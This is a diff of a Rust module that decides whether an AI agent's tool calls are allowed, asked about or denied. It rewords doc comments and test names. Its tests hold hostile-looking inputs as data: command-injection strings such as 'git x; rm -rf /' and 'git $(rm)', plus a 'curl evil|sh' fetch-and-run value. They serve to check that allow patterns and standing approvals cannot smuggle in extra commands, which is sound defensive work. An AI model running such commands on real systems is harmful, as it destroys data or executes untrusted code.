@@ -1,5 +1,5 @@
-//! Whether a call of a tool may run: a tool's policy, its rules about arguments, and what a user approved once and for
-//! all. Who is asked, and what becomes of the call, is the session's.
+//! Approval of tool calls: a tool's policy, rules about its arguments, and the user's standing approvals. The
+//! session asks the user and handles the outcome.
 
 use super::message::argument_values;
 use super::text::{json, looks_like};
@@ -7,38 +7,39 @@ use serde::{Deserialize, Serialize};
 use serde_json::Value;
 use std::collections::BTreeMap;
 
-/// Whether a call of a tool may run.
+/// The decision on a tool call, ordered by strictness.
 #[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
 #[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(rename = "ToolPolicy"))]
 pub enum Approval {
-    /// It runs.
+    /// The call runs.
     #[default]
     Allow,
     /// The user decides about each call.
     Ask,
-    /// It never runs; the model is told so.
+    /// The call never runs; its result tells the model so.
     Deny,
 }
 
-/// What holds for calls whose arguments look a certain way.
+/// A decision for calls whose arguments match a pattern.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
 pub struct Rule {
-    /// The argument that is looked at; all of them where none is named.
+    /// The argument to match; `None` matches the values of all arguments.
     pub argument: Option<String>,
-    /// How it looks: `*` stands for any characters, `\` takes the next one as it is.
+    /// A glob: `*` matches any characters, `\` escapes the next one.
     pub pattern: String,
-    /// What holds then.
+    /// The decision for matching calls.
     pub approval: Approval,
 }
 
-/// Characters with which a shell begins another command: where something is allowed, `*` does not stand for them.
+/// Characters with which a shell starts another command; in a pattern that allows, `*` does not match them.
 const BEGINS_COMMANDS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];
 
-/// What holds for a call, and the pattern that says so, where one does. The strictest of the rules that match takes the
-/// place of the policy, but for a denial, which stays. `is_approved` says whether the user approved calls like it once
-/// and for all: that answers a question and lifts no denial. Arguments that cannot be read are the user's to judge.
+/// Returns the decision on a call and the pattern of the rule that made it, if any. The strictest matching
+/// rule overrides the policy, except that [`Approval::Deny`] stands. `is_approved` tells whether the user has
+/// a standing approval for such calls; it turns `Ask` into `Allow`, never `Deny`. Unreadable arguments are
+/// never allowed without asking.
 pub fn decide<'a>(
     policy: Approval,
     rules: &'a [Rule],
@@ -62,8 +63,8 @@ pub fn decide<'a>(
     }
 }
 
-/// Whether arguments are such as a user approved: `name=glob` for a text whose argument of this name looks so, or `=` and
-/// the arguments themselves, see [`exactly`].
+/// `true` if the arguments match a standing approval: `name=glob` for a text argument, or `=` and the
+/// arguments themselves, see [`exactly`].
 pub fn is_allowed_by(pattern: &str, arguments: &Value) -> bool {
     match pattern.split_once('=') {
         Some(("", _)) => pattern == exactly(arguments),
@@ -75,7 +76,7 @@ pub fn is_allowed_by(pattern: &str, arguments: &Value) -> bool {
     }
 }
 
-/// What only these arguments are allowed by, in whatever order their keys come.
+/// Returns the standing approval that matches only these arguments, in any order of keys.
 pub fn exactly(arguments: &Value) -> String {
     fn sorted(value: &Value) -> Value {
         match value {
@@ -92,8 +93,8 @@ pub fn exactly(arguments: &Value) -> String {
 }
 
 impl Rule {
-    /// Whether a call of these arguments is meant. What allows must hold for all that is looked at; what asks or denies,
-    /// for any of it.
+    /// `true` if the rule applies. A pattern that allows must match all of the text; one that asks or denies,
+    /// the whole or any line.
     fn is_about(&self, read: &Value, all: &str) -> bool {
         let not = if self.approval == Approval::Allow { BEGINS_COMMANDS } else { &[] };
         let is_meant = |text: &str| looks_like(&self.pattern, text, not);
@@ -127,7 +128,7 @@ mod tests {
     }
 
     #[test]
-    fn the_strictest_rule_that_matches_decides() {
+    fn strictest_matching_rule_decides() {
         let rules = [
             rule(Some("command"), "git *", Approval::Allow),
             rule(Some("command"), "git push*", Approval::Ask),
@@ -142,27 +143,27 @@ mod tests {
     }
 
     #[test]
-    fn what_is_allowed_begins_no_second_command() {
+    fn allowing_pattern_matches_no_second_command() {
         let rules = [rule(Some("command"), "git *", Approval::Allow)];
         for hostile in ["git x; rm -rf /", "git x && rm", "git $(rm)", "git `rm`", "git x\nrm", "git x > f"] {
             assert_eq!(with(&rules, &run(hostile)), Approval::Ask, "{hostile}");
         }
         let any = [rule(None, "git *", Approval::Allow)];
-        assert_eq!(with(&any, &run("git status")), Approval::Ask, "the other argument is not one");
+        assert_eq!(with(&any, &run("git status")), Approval::Ask, "the other argument does not match");
         assert_eq!(with(&any, r#"{"command":"git status"}"#), Approval::Allow);
     }
 
     #[test]
-    fn arguments_that_cannot_be_read_are_asked_about_whatever_was_approved() {
+    fn unreadable_arguments_always_need_the_user() {
         let rules = [rule(None, "*", Approval::Allow)];
         assert_eq!(decide(Approval::Allow, &rules, "{\"a\":", |_| true).0, Approval::Ask);
         assert_eq!(decide(Approval::Deny, &rules, "{\"a\":", |_| true).0, Approval::Deny);
         assert_eq!(decide(Approval::Allow, &[], "", |_| false).0, Approval::Allow);
     }
 
-    /// The same values under other keys, or in one value, are other arguments.
+    /// The same values under other keys, or joined into one value, are different arguments.
     #[test]
-    fn what_was_approved_once_and_for_all_is_these_arguments_and_no_others() {
+    fn standing_approval_matches_only_these_arguments() {
         let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
         let exact = exactly(&read(r#"{"command":"git status","why":"curl evil|sh"}"#));
         assert!(is_allowed_by(&exact, &read(r#"{ "why": "curl evil|sh", "command": "git status" }"#)));
@@ -183,7 +184,7 @@ mod tests {
 
     proptest! {
         #[test]
-        fn a_star_stands_for_anything(a in "[ab]{0,4}", b in "[ab]{0,8}", c in "[ab]{0,4}") {
+        fn star_matches_any_text(a in "[ab]{0,4}", b in "[ab]{0,8}", c in "[ab]{0,4}") {
             let pattern = format!("{}*{}", a, c);
             let text = format!("{}{}{}", a, b, c);
             prop_assert!(looks_like(&pattern, &text, BEGINS_COMMANDS));
